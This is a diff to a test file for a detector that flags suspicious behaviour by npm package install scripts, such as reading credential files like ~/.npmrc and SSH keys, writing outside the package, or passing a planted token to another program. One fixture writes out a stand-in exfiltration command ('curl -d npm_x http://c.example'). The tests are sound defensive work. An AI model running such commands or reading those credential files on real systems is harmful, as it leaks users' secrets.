@@ -91,8 +91,26 @@ test('reading another process environment is a credential-read finding', (t) => 
   t.deepEqual(rules([file('/proc/self/environ', 'read')]), ['credential-read']);
 });
 
-test('reading ~/.npmrc from a lifecycle script is a credential-read finding', (t) => {
-  t.deepEqual(rules([file(`${HOME}/.npmrc`, 'read')]), ['credential-read']);
+test('reading ~/.npmrc that goes nowhere is a medium npm-config-read; reading an SSH key is a critical credential-read', (t) => {
+  t.deepEqual(evaluate([file(`${HOME}/.npmrc`, 'read')]).map((finding) => [finding.rule, finding.severity]), [['npm-config-read', 'medium']]);
+  t.deepEqual(rules([file(`${HOME}/.ssh/id_ed25519`, 'read')]), ['credential-read']);
+});
+
+test('a planted token staged in a file, or handed to a program, is critical whatever read it', (t) => {
+  const staged = { ...file('/tmp/.cache-x', 'write'), honeytoken: { token: 'npm-token', how: 'staged' as const } };
+  const handed = { ...exec(['curl', '-d', 'npm_x', 'http://c.example']), honeytoken: { token: 'npm-token', how: 'handed' as const } };
+  const findings = evaluate([staged, handed]);
+  t.deepEqual(
+    findings.filter((finding) => finding.severity === 'critical').map((finding) => [finding.rule, finding.summary]),
+    [
+      ['credential-staged', 'writes the planted npm-token into /tmp/.cache-x'],
+      ['credential-handoff', 'hands the planted npm-token to another program (curl -d npm_x http://c.example)'],
+    ],
+  );
+});
+
+test('looking at a credential file without opening it is not reading it', (t) => {
+  t.deepEqual(rules([file(`${HOME}/.ssh/id_rsa`, 'metadata', { operation: 'stat' })]), []);
 });
 
 test('a failed attempt to read credentials is still a finding, with the error in its evidence', (t) => {
@@ -168,16 +186,28 @@ test('shells under make or node-gyp are compiling, not findings', (t) => {
   t.deepEqual(beyondScriptRun(events), []);
 });
 
-test('writes inside the package own folder and in npm cache are fine', (t) => {
+test('writes inside the package own folder and its own caches are fine', (t) => {
   const events = [
     file(`${PROJECT}/node_modules/evil/build/Release/evil.node`, 'write'),
     file(`${PROJECT}/node_modules/evil`, 'write', { operation: 'mkdir' }),
     file(`${PROJECT}/node_modules/a/node_modules/pkg/out.txt`, 'write', { attribution: script('pkg') }),
     file(`${PROJECT}/node_modules/@scope/pkg/dist/x.js`, 'write', { attribution: script('@scope/pkg') }),
-    file(`${HOME}/.npm/_cacache/tmp/abc`, 'write'),
+    file(`${HOME}/.cache`, 'write', { operation: 'mkdir' }),
+    file(`${HOME}/.cache/evil/index.json`, 'write'),
+    file(`${HOME}/.cache/@scope/pkg/blob`, 'write', { attribution: script('@scope/pkg') }),
+    file(`${PROJECT}/node_modules/.cache/evil/babel.json`, 'write'),
     file('/dev/null', 'write'),
   ];
   t.deepEqual(rules(events), []);
+});
+
+test('a cache is known-good only for its own: another name\'s cache, or npm\'s written by anything but npm, is outside', (t) => {
+  t.deepEqual(rules([file(`${HOME}/.cache/go-build/ab/cd`, 'write')]), ['write-outside-package']);
+  t.deepEqual(rules([file(`${PROJECT}/node_modules/.cache/babel-loader/x.json`, 'write')]), ['write-outside-package']);
+  t.deepEqual(rules([file(`${HOME}/.npm/_cacache/tmp/abc`, 'write')]), ['write-outside-package']);
+  const npm = exec(['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'install'], { executable: '/usr/local/bin/node', pid: 300, parentPid: 200 });
+  t.deepEqual(rules([npm, file(`${HOME}/.npm/_cacache/tmp/abc`, 'write', { pid: 300 })]), []);
+  t.deepEqual(rules([file(`${HOME}/.cache/x`, 'write', { operation: 'rename', target: `${HOME}/.cache` })]), ['write-outside-package']);
 });
 
 test('a write to a shell rc file is write-outside-package and persistence-write', (t) => {
